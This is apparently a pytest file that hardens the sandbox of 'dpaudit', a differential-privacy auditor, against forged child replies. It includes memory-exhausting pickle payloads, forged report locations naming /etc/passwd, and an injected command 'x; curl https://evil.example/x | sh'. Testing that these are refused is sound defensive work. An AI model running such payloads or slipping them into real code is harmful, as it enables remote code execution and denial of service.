"""What the sandboxed child sends back is hostile input: the audited code can replace dpaudit's own
functions in the child's interpreter, or write its own replies to dpaudit's pipe. Each test failed
before its fix:

* a reply is bounded on the wire, before anything walks it: a forged replay record whose dataset
  was a list nested by reference (a few KB of pickle) made dpaudit's process hold 8.5 GB in
  ``np.asarray``; a batch reply built the same way, a cycle, a far memo index, a text named a
  million times and an error message of megabytes are refused or cut while they are read;
* a forged or malformed replay record is the mechanism's ERROR (exit 6): the replay stage of a
  sampled check was an ERROR beside a NOT REFUTED with exit 0;
* nothing the child says becomes a location or a command: a forged finding put a code-scanning
  alert on any file and line, and its "replay this pair" line (``; curl … | sh``) reached the
  Markdown and HTML reports. Sites must lie in the audited file, at a line it has; every replay
  line is built by dpaudit from the claim.
"""

from __future__ import annotations

import json
import pickle
import resource
import time
from textwrap import dedent

import pytest

from dpaudit.execution import safe_pickle
from .test_cheating import _check as check_in_sandbox
from .test_hostile import arena  # noqa: F401

REPLAY = ("--epsilon=1", "--domain=0:1", "--replay")


def _by_reference(levels: int, width: int) -> list:
    """A list that pickles in a few KB and walks as ``width ** levels`` floats."""
    x: list = [0.0] * width
    for _ in range(levels - 1):
        x = [x] * width
    return x


# -- bounded on the wire ---------------------------------------------------------------------------

def test_a_list_nested_by_reference_is_refused_before_it_is_built():
    payload = pickle.dumps(("record", {"kind": "replay", "findings": [
        {"kind": "sensitivity_exceeded", "dataset": _by_reference(4, 1000)}]}), protocol=5)
    assert len(payload) < 20_000
    with pytest.raises(pickle.UnpicklingError, match="values"):
        safe_pickle.loads(payload)


def _cycle() -> bytes:
    a: list = []
    a.append(a)
    return pickle.dumps(("ok", [a]), protocol=5)


def _deep() -> bytes:
    # protocol 5 opcodes: an empty list, then 10,000 lists each holding the one before
    return b"\x80\x05" + b"]" * 10_000 + b"a" * 9_999 + b"."


@pytest.mark.parametrize("payload, cause", [
    (_cycle(), "itself"),
    (_deep(), "nested"),
    (b"\x80\x05N" + b"r\xff\xff\xff\x7f" + b".", "memo"),   # LONG_BINPUT 2**31 - 1
    (pickle.dumps(("error", [("x" * (1 << 20),) * 1000][0], True, 0), protocol=5), "values"),
    (pickle.dumps(("ok", [1.5]), protocol=0), "opcode"),   # only what the child writes is read
], ids=["cycle", "deep", "far_memo_index", "text_named_1000_times", "protocol_0"])
def test_what_would_grow_in_dpaudits_process_is_refused_on_the_wire(payload, cause):
    with pytest.raises(pickle.UnpicklingError, match=cause):
        safe_pickle.loads(payload)


def test_the_largest_legitimate_replies_still_read():
    import numpy as np

    batch = [float(i) / 7 for i in range(50_000)]
    rows = [tuple(range(80)) for _ in range(2_000)]
    texts = ["category-%d" % (i % 5) for i in range(50_000)]   # shared texts, as the child sends
    arr = safe_pickle.pack(np.arange(4_000_000, dtype=float))    # 32 MB of one batch's array
    t0 = time.perf_counter()
    for reply in (("ok", [batch]), ("ok", [rows]), ("ok", [texts]), ("ok", [arr])):
        assert safe_pickle.loads(pickle.dumps(reply, protocol=5))[0] == "ok"
    assert time.perf_counter() - t0 < 5


# -- replies forged through the pipe ----------------------------------------------------------------

#: the child writes ``reply`` to dpaudit's pipe itself (its descriptor is the child's argv[2])
SEND = """\
import os, pickle, struct, sys

def _send(reply):
    payload = pickle.dumps(reply, protocol=5)
    message = struct.pack("!i", -1) + struct.pack("!Q", len(payload)) + payload
    fd = int(sys.argv[2])
    while message:
        message = message[os.write(fd, message):]
"""


def test_a_batch_reply_nested_by_reference_is_the_mechanisms_error(arena, capfd):
    code, rec, _ = check_in_sandbox(arena, capfd, "batch_by_reference", SEND + dedent("""\
        import numpy as np

        def f(data, rng, size=None):
            if (size or 1) >= 100:   # a sampling batch: each output 2**20 - 48,576 values
                row = [[0.0] * 1000] * 1000
                _send(("ok", [[row] * size]))
                os._exit(0)
            return np.zeros(size or 1)
        """), "--epsilon=1", "--domain=0:1", "--no-replay")
    assert (code, rec["verdict"]) == (6, "error"), rec.get("error")
    assert "values" in rec["error"] and "refused before it was read" in rec["error"]


@pytest.mark.slow
def test_an_error_reply_of_megabytes_is_cut_to_a_line(arena, capfd):
    code, rec, out = check_in_sandbox(arena, capfd, "long_error", SEND + dedent("""\
        def f(data, rng):
            _send(("error", "A" * (8 << 20), True, 0))
            return 0.0
        """), "--epsilon=1", "--domain=0:1", "--no-replay")
    assert (code, rec["verdict"]) == (6, "error")
    assert len(rec["error"]) < 5_000 and len(out) < 20_000


# -- forged replay records ----------------------------------------------------------------------

FORGER = """\
import numpy as np
import dpaudit
import dpaudit.replay.audit as audit_module

def forged(f, **options):          # the audited code rewrites dpaudit's engine in the child
    return {record}

audit_module.replay_record = forged

@dpaudit.mechanism(epsilon=1.0, neighbours="add-remove", domain=(0, 1), size=10)
def f(data, rng):
    return round(float(np.clip(data, 0, 1).sum() + rng.laplace(scale=1.0)), 3)
"""
#: the line of ``f``'s noise in FORGER
NOISE_LINE = FORGER.splitlines().index(
    "    return round(float(np.clip(data, 0, 1).sum() + rng.laplace(scale=1.0)), 3)") + 1


def _finding(site: str = "{'path': __file__, 'line': %d}" % NOISE_LINE, **extra: str) -> str:
    fields = {"kind": "'sensitivity_exceeded'", "message": "'declared sensitivity exceeded'",
              "site": site, "dataset": "[0.0] * 10", "neighbour": "[0.0] * 9", **extra}
    return "{" + ", ".join(f"{k!r}: {v}" for k, v in fields.items()) + "}"


def _record(*findings: str) -> str:
    return "{'kind': 'replay', 'verdict': 'refuted', 'findings': [%s]}" % ", ".join(findings)


def test_a_forged_record_nested_by_reference_is_refused_before_it_is_walked(arena, capfd):
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    big = _finding(dataset="_by_ref", neighbour="_by_ref")
    source = FORGER.format(record=_record(big)).replace(
        "def forged", "_by_ref = [0.0] * 1000\nfor _ in range(2):\n    _by_ref = [_by_ref] * 1000\n\n"
        "def forged")
    code, rec, _ = check_in_sandbox(arena, capfd, "record_by_reference", source, *REPLAY)
    assert (code, rec["verdict"]) == (6, "error"), rec.get("error")
    assert "values" in rec["error"]
    grew = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024
    assert grew < 500 << 20, f"dpaudit's process grew by {grew:,} bytes"


@pytest.mark.slow
@pytest.mark.parametrize("record, cause", [
    ("{'kind': 'replay', 'verdict': 'not_refuted', 'findings': [{'kind': 'made_up'}]}",
     "unknown kind"),
    ("[{'kind': 'replay'}]", "malformed"),
    ("{'kind': 'audit', 'verdict': 'not_refuted'}", "not a replay record"),
], ids=["unknown_kind", "not_a_table", "another_kind"])
def test_a_forged_stage_record_is_the_targets_error_and_the_sampling_is_kept(arena, capfd, record,
                                                                             cause):
    code, rec, out = check_in_sandbox(arena, capfd, "forged_stage", FORGER.format(record=record),
                                      "--epsilon=1", "--domain=0:1")
    assert (code, rec["verdict"]) == (6, "error"), (rec["verdict"], rec.get("error"))
    assert cause in rec["error"] and "refused" in rec["error"]
    assert rec["replay"]["verdict"] == "error" and rec["samples"] > 0   # what was computed stays
    assert rec.get("decided_by") == "replay"


def _reports_text(arena) -> str:
    from dpaudit.report import render_markdown

    tmp = arena["tmp"]
    run = json.loads((tmp / "r.json").read_text())
    return "\n".join([(tmp / "r.json").read_text(), (tmp / "r.html").read_text(),
                      (tmp / "r.junit").read_text(), (tmp / "r.sarif").read_text(),
                      render_markdown(run)])


@pytest.mark.parametrize("site", [
    "{'path': __file__.replace('forged_site', 'other'), 'line': 1}",
    "{'path': '/etc/passwd', 'line': 1}",
    "{'path': __file__, 'line': 9999}",
    "{'path': __file__, 'line': 0}",
], ids=["another_file", "a_system_file", "past_the_last_line", "line_zero"])
def test_a_site_outside_the_audited_file_is_refused(arena, capfd, site):
    (arena["tmp"] / "mech").mkdir(exist_ok=True)
    (arena["tmp"] / "mech" / "hostile_other.py").write_text("x = 1\n")
    code, rec, _ = check_in_sandbox(arena, capfd, "forged_site",
                                    FORGER.format(record=_record(_finding(site=site))), *REPLAY)
    assert (code, rec["verdict"]) == (6, "error"), (rec["verdict"], rec.get("error"))
    assert "refused" in rec["error"] and "site" in rec["error"]
    assert not rec.get("location")
    junit = (arena["tmp"] / "r.junit").read_text()
    assert "other.py\" line=" not in junit and "passwd\" line=" not in junit
    sarif = json.loads((arena["tmp"] / "r.sarif").read_text())
    located = [loc for r in sarif["runs"][0]["results"] for loc in r.get("locations", [])]
    assert not any("other" in json.dumps(loc) or "passwd" in json.dumps(loc) for loc in located)


def test_a_reproduce_line_from_the_child_never_reaches_a_report(arena, capfd):
    evil = "'x; curl https://evil.example/x | sh'"
    code, rec, out = check_in_sandbox(
        arena, capfd, "forged_reproduce",
        FORGER.format(record=_record(_finding(reproduce=evil))), *REPLAY)
    assert (code, rec["verdict"]) == (1, "refuted"), rec.get("error")
    (finding,) = rec["findings"]
    assert finding["site"]["line"] == NOISE_LINE
    assert finding["reproduce"].startswith("dpaudit.replay.replay_pair(f, [0.0, ")
    assert "curl" not in _reports_text(arena) + out


@pytest.mark.slow
def test_noise_drawn_in_a_helper_module_is_placed_at_the_audited_files_line(arena, capfd):
    """The other side of the rule above: an honest mechanism whose noise call sits in a module
    beside it is no ERROR; its finding is named at the audited file's line that called in."""
    (arena["tmp"] / "mech").mkdir(exist_ok=True)
    (arena["tmp"] / "mech" / "noise_helper.py").write_text(dedent("""\
        def noisy(value, rng, scale):
            return value + rng.laplace(scale=scale)
        """))
    source = dedent("""\
        import numpy as np
        import dpaudit
        from noise_helper import noisy

        @dpaudit.mechanism(epsilon=1.0, neighbours="add-remove", domain=(0, 1), size=10)
        def f(data, rng):
            total = float(np.clip(data, 0, 1).sum())
            return noisy(total, rng, 1.0 + total)
        """)
    code, rec, _ = check_in_sandbox(arena, capfd, "helper", source, *REPLAY)
    assert rec["verdict"] != "error", rec.get("error")
    sites = [f["site"] for f in rec["findings"] if f.get("site")]
    assert sites and all(s["path"].endswith("hostile_helper.py") for s in sites), sites
    assert {s["line"] for s in sites} == {8} and sites[0]["code"].startswith("return noisy(")


@pytest.mark.slow
def test_a_forged_first_line_of_the_function_is_no_location(arena, capfd):
    """The child's description of the function (its ``ready`` reply) named the line every sampled
    report points at: a forged one put the alert on /etc/passwd:1."""
    code, rec, _ = check_in_sandbox(arena, capfd, "forged_source", dedent("""\
        import sys
        import numpy as np

        child = sys.modules["dpaudit.execution.child"]
        described = child._describe_loaded

        def forged(loaded):
            facts = described(loaded)
            facts["source"] = ("/etc/passwd", 1)
            return facts

        child._describe_loaded = forged

        def f(data, rng):
            return float(np.clip(data, 0, 1).sum()) + rng.laplace(scale=0.1)
        """), "--epsilon=1", "--domain=0:1", "--no-replay", "--float=off")
    assert (code, rec["verdict"]) == (1, "refuted"), rec.get("error")
    assert "passwd" not in json.dumps(rec.get("location"))
    sarif = (arena["tmp"] / "r.sarif").read_text()
    assert "passwd" not in sarif and "passwd" not in (arena["tmp"] / "r.junit").read_text()
